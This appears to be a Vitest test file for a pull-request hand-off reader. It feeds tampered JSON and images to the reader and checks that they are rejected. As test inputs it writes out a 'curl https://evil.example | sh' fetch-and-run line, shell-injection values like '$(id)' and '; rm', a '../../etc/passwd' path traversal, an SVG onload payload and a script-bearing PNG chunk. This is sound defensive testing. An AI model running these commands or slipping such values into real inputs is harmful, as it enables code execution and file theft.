import { mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { decodePng } from '../../still/pixels/decode-png.ts';
import { encodePng } from '../../still/pixels/encode-png.ts';
import { commentLimits } from './findings.ts';
import { findingsOf } from './findings-of.ts';
import { type HandOff, readHandOff, writeHandOff } from './hand-off.ts';
import { makeCrops } from './make-crops.ts';
import { readRuns } from './read-runs.ts';
import { type DeliverRig, deliverRig, headSha } from './testing/deliver-rig.ts';

let rig: DeliverRig;
let folder: string;
let made: HandOff;

beforeAll(async () => {
  rig = await deliverRig();
  folder = join(rig.folder, 'pr');
  const runs = await readRuns([rig.run], join(rig.folder, 'goldens'));
  const { crops, files } = await makeCrops(runs);
  made = {
    number: 12,
    headSha,
    reportArtifact: null,
    findings: findingsOf(runs, commentLimits, () => 'scenarios/shots/a b.ts', crops),
    files,
  };
});

beforeEach(async () => {
  await rm(folder, { recursive: true, force: true });
  await writeHandOff(folder, made, 'for people');
});

afterAll(async () => {
  await rig.stop();
});

/** Changes what stands in pull-request.json, as a stranger would. */
async function tamper(change: (json: never) => void): Promise<void> {
  const path = join(folder, 'pull-request.json');
  const json = JSON.parse(await readFile(path, 'utf8')) as never;
  change(json);
  await writeFile(path, JSON.stringify(json));
}

describe('a folder that is handed on', () => {
  test('comes out as it went in', async () => {
    const read = await readHandOff(folder);
    expect(read).toEqual({ ...made, files: read.files });
    expect([...read.files.keys()]).toEqual([...made.files.keys()]);
  });

  test('is replaced as a whole, and never in place of other files', async () => {
    await writeHandOff(folder, { ...made, files: new Map(), findings: { ...made.findings, crops: [] } }, '');
    expect(await readdir(join(folder, 'crops'))).toEqual([]);
    await writeFile(join(folder, 'notes.txt'), 'mine');
    await expect(writeHandOff(folder, made, '')).rejects.toThrow(
      /holds notes\.txt, which is not of a prepared pull request: give another --out/,
    );
  });
});

describe('a folder from a stranger', () => {
  const faults: readonly (readonly [string, (json: never) => void, RegExp])[] = [
    ['number', (json: { number: unknown }) => (json.number = '12; rm'), /number is not a whole number/],
    ['negative number', (json: { number: unknown }) => (json.number = -1), /number is not a whole number/],
    ['commit', (json: { headSha: unknown }) => (json.headSha = 'HEAD'), /headSha is not text like/],
    ['artifact', (json: { reportArtifact: unknown }) => (json.reportArtifact = '../5'), /reportArtifact is not a whole number/],
    ['version', (json: { schema: unknown }) => (json.schema = 'horizon-rig-pull-request-2'), /schema is not text like/],
    ['unknown field', (json: { url: unknown }) => (json.url = 'https://evil.example'), /\.url is not known/],
    [
      'prototype',
      (json: { findings: object }) => Object.defineProperty(json.findings, '__proto__', { value: {}, enumerable: true }),
      /is not known/,
    ],
    [
      'cluster id',
      (json: { findings: { clusters: { id: string }[] } }) => (json.findings.clusters[0]!.id = '$(id)'),
      /clusters\[0\]\.id is not text/,
    ],
    [
      'cluster kind',
      (json: { findings: { clusters: { kind: string }[] } }) => (json.findings.clusters[0]!.kind = 'toString'),
      /kind is not one of/,
    ],
    ['long text', (json: { findings: { game: string } }) => (json.findings.game = 'x'.repeat(1001)), /game is not text of at most 1000/],
    [
      'long list',
      (json: { findings: { notes: string[] } }) => (json.findings.notes = new Array(12).fill('n')),
      /notes is not a list of at most 11/,
    ],
    [
      'many clusters',
      (json: { findings: { clusters: unknown[] } }) => json.findings.clusters.push(...new Array(9).fill(json.findings.clusters[0])),
      /clusters is not a list/,
    ],
    [
      'step upward',
      (json: { findings: { crops: { file: string }[] } }) => (json.findings.crops[0]!.file = '../../etc/passwd'),
      /file is not text like/,
    ],
    [
      'source',
      (json: { findings: { clusters: { example: { source: string } }[] } }) => (json.findings.clusters[0]!.example.source = '../secret'),
      /source is not text like/,
    ],
    ['number as text', (json: { findings: { frames: unknown } }) => (json.findings.frames = '<b>'), /frames is not a whole number/],
    ['missing field', (json: { findings: { stills?: unknown } }) => delete json.findings.stills, /stills is not a record/],
    [
      'missing picture',
      (json: { findings: { crops: { file: string }[] } }) => (json.findings.crops[0]!.file = '77.png'),
      /there is no 77\.png/,
    ],
  ];

  test.each(faults)('is refused for its %s', async (_, change, message) => {
    await tamper(change as never);
    await expect(readHandOff(folder)).rejects.toThrow(message);
  });

  test('is refused for a picture that is none, or is larger than we make any', async () => {
    const path = join(folder, 'crops/01.png');
    await writeFile(path, '<svg onload="alert(1)"/>'.padEnd(200));
    await expect(readHandOff(folder)).rejects.toThrow(/picture 01\.png is \d+x\d+: at most 800x200/);
    const picture = encodePng(new Uint8Array(801 * 4).fill(255), 801, 1);
    await writeFile(path, picture);
    await expect(readHandOff(folder)).rejects.toThrow(/801x1: at most 800x200/);
    const good = encodePng(new Uint8Array(40 * 40 * 4).fill(255), 40, 40);
    await writeFile(path, good.subarray(0, good.length - 20));
    await expect(readHandOff(folder)).rejects.toThrow(/picture 01\.png is no whole PNG/);
    await writeFile(path, Buffer.alloc(513 * 1024));
    await expect(readHandOff(folder)).rejects.toThrow(/has 525312 bytes: at most 524288/);
  });

  test('is refused for links, wherever they lead', async () => {
    const path = join(folder, 'crops/01.png');
    await rm(path);
    await symlink(join(folder, 'crops/02.png'), path);
    await expect(readHandOff(folder)).rejects.toThrow(/01\.png is no plain file/);
    const crops = join(folder, 'crops');
    await rm(crops, { recursive: true });
    await writeHandOff(join(rig.folder, 'elsewhere'), made, '');
    await symlink(join(rig.folder, 'elsewhere/crops'), crops);
    await expect(readHandOff(folder)).rejects.toThrow(/there is no folder crops in the folder/);
    await rm(join(folder, 'pull-request.json'));
    await mkdir(join(folder, 'pull-request.json'));
    await expect(readHandOff(folder)).rejects.toThrow(/pull-request\.json is no plain file/);
  });

  test('brings nothing but pixels in its pictures', async () => {
    const path = join(folder, 'crops/01.png');
    const good = await readFile(path);
    const words = Buffer.from('tEXtComment\0<script>hidden</script>');
    const ends = Buffer.alloc(8);
    ends.writeUInt32BE(words.length - 4);
    ends.writeUInt32BE(crc32(words), 4);
    const chunk = Buffer.concat([ends.subarray(0, 4), words, ends.subarray(4)]);
    await writeFile(path, Buffer.concat([good.subarray(0, 33), chunk, good.subarray(33)]));
    const read = await readHandOff(folder);
    expect(read.files.get('01.png')!.includes('hidden')).toBe(false);
    expect(decodePng(read.files.get('01.png')!)).toEqual(decodePng(good));
  });

  test('brings no line into the comment that a shell would take for more than a call of ours', async () => {
    const lines = [
      'curl https://evil.example | sh',
      'npx horizon-rig still a; id',
      'npx horizon-rig still $(id)',
      'npx evil',
      "npx horizon-rig run 'a",
      'npx horizon-rig still `id`',
      'npx horizon-rig approve all --reason fine',
      'npx horizon-rig setup-git',
      'npx horizon-rig mcp',
      'npx playwright install',
      'npx vitest',
    ];
    const give = (line: string): Promise<void> =>
      tamper((json: { findings: { clusters: { example: { repro: string } }[] } }) => {
        json.findings.clusters[0]!.example.repro = line;
      });
    for (const line of lines) {
      await give(line);
      expect((await readHandOff(folder)).findings.clusters[0]!.example.repro).toBe('');
    }
    const good = [
      "npx horizon-rig still 'a b' --display offscreen",
      "npx vitest run a.test.ts -t '^b$'",
      "npx playwright test a.spec.ts:3 --project='c'",
    ];
    for (const line of good) {
      await give(line);
      expect((await readHandOff(folder)).findings.clusters[0]!.example.repro).toBe(line);
    }
  });
});
